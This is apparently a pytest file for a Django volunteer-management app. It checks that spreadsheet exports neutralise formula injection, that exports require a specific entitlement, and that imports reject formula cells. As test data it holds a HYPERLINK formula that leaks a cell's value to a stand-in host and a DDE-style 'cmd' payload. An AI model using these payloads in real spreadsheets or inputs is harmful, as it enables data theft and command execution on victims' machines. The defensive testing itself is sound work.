"""Exports after the outside security test (issue 10): no formula injection from what a person
typed (defect 2), exports need the entitlement of `reveal` (defect 5), and callers without it
get 403, not an empty audited workbook (defect 7). Imports never evaluate a formula."""

import io
import json

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from tests.conftest import bearer_client
from tests.factories import UserFactory, grant
from tests.volunteers.factories import TeamFactory, VolunteerFactory, credit, make_id, member
from tests.volunteers.test_imports import WORKER, run_worker, sheet
from xinfeng.accounts.choices import Role
from xinfeng.core.models import AuditEvent
from xinfeng.volunteers.choices import MembershipRole
from xinfeng.volunteers.models import Volunteer, VolunteerImport
from xinfeng.volunteers.services.profiles import PRIVACY_NOTICE_VERSION

FORMULA = '=HYPERLINK("http://x/?"&C2,"a")'
EXPORTS = ("/api/v1/volunteers/export.xlsx", "/api/v1/volunteers/records/export.xlsx")


def _rows(content: bytes):
    return list(load_workbook(io.BytesIO(content)).active.iter_rows())


def test_self_registered_formula_name_is_exported_as_text(tree, owner, api_as):
    body = {
        "name": FORMULA,
        "id_number": make_id(),
        "phone": "13912345678",
        "home_region_id": tree.v1.pk,
        "skills": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
        "privacy_notice_version": PRIVACY_NOTICE_VERSION,
    }
    client = bearer_client(UserFactory(phone="13912345678"))  # signed up by phone first
    r = client.post("/api/v1/volunteers/register", json.dumps(body), "application/json")
    assert r.status_code == 201, r.content
    v = Volunteer.objects.get()
    credit(v, tree.v1, hours=2, description="+1 服务")

    r = api_as(owner).get("/api/v1/volunteers/export.xlsx")
    assert r.status_code == 200
    header, row = _rows(r.content)
    name, skills = row[1], row[7]
    assert name.value == FORMULA
    assert name.data_type == "s" and skills.data_type == "s"  # text, never a formula
    assert name.quotePrefix and skills.quotePrefix
    assert not any(c.data_type == "f" for c in row)

    r = api_as(owner).get("/api/v1/volunteers/records/export.xlsx")
    _h, rec = _rows(r.content)
    assert rec[2].value == FORMULA and rec[2].data_type == "s"
    assert not any(c.data_type == "f" for c in rec)

    # The staff page export is the same service.
    c = Client()
    c.force_login(owner)
    r = c.get("/volunteers/manage/?export=xlsx")
    assert r.status_code == 200
    assert not any(c.data_type == "f" for row in _rows(r.content) for c in row)


@pytest.fixture
def people(tree):
    v = VolunteerFactory(home_region=tree.v1, phone="13911112222", user=UserFactory())
    credit(v, tree.v1, hours=2)
    team = TeamFactory(home_site=tree.st1)
    member(team, v)
    lead_v = VolunteerFactory(home_region=tree.v1, user=UserFactory(username="captain"))
    member(team, lead_v, role=MembershipRole.LEADER)
    grant(lead_v.user, Role.TEAM_LEADER, tree.v1)
    return {
        "leader": grant(UserFactory(username="ro-leader"), Role.LEADER, tree.city),
        "resident": grant(UserFactory(username="res"), Role.RESIDENT, tree.v1),
        "volunteer": grant(v.user, Role.VOLUNTEER, tree.v1),
        "team_leader": lead_v.user,
        "roleless": UserFactory(username="nobody"),
    }


@pytest.mark.parametrize("who", ["leader", "resident", "volunteer", "team_leader", "roleless"])
@pytest.mark.parametrize("url", EXPORTS)
def test_exports_without_the_reveal_entitlement_are_403(people, api_as, who, url):
    r = api_as(people[who]).get(url)
    assert r.status_code == 403, (who, url, r.status_code)
    assert r.json()["code"] == "export_forbidden"
    assert not AuditEvent.objects.filter(action__endswith="_exported").exists()


def test_anonymous_export_is_401(people):
    for url in EXPORTS:
        assert Client().get(url).status_code == 401


@pytest.mark.parametrize("who", ["leader", "team_leader"])
def test_staff_page_export_refused_and_link_hidden(people, who):
    c = Client()
    c.force_login(people[who])
    for page in ("/volunteers/manage/", "/volunteers/manage/records/"):
        listing = c.get(page)
        if listing.status_code == 200:
            assert "export=xlsx" not in listing.content.decode()
        r = c.get(page + "?export=xlsx")
        assert r.status_code == 403
        assert not r.get("Content-Type", "").startswith("application/vnd")


def test_staff_export_is_audited_with_the_row_count(people, owner, api_as):
    r = api_as(owner).get("/api/v1/volunteers/export.xlsx")
    assert r.status_code == 200 and len(_rows(r.content)) == 3  # header + two volunteers
    event = AuditEvent.objects.get(action="volunteers_exported")
    assert event.actor == owner and event.detail["rows"] == 2


@WORKER
def test_import_with_a_formula_cell_imports_nothing_and_names_the_cell(
    tree, owner, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    content = sheet(
        [{"name": "=1+1", "id_number": make_id(seq=11), "phone": "1", "privacy_consent": "是"}]
    )
    c = Client()
    c.force_login(owner)
    with django_capture_on_commit_callbacks(execute=True):
        r = c.post(
            "/volunteers/manage/imports/",
            {"region": tree.t1.pk, "file": SimpleUploadedFile("v.xlsx", content)},
        )
    assert r.status_code == 302
    run_worker()
    job = VolunteerImport.objects.get()
    assert job.status == "failed" and "A2" in job.error and "公式" in job.error
    assert not Volunteer.objects.exists()


def test_text_that_looks_like_a_formula_imports_as_text():
    from xinfeng.core.spreadsheet import read_xlsx_rows

    wb = Workbook()
    wb.active["A1"] = "=text"
    wb.active["A1"].data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    assert next(read_xlsx_rows(out.getvalue())) == ("=text",)
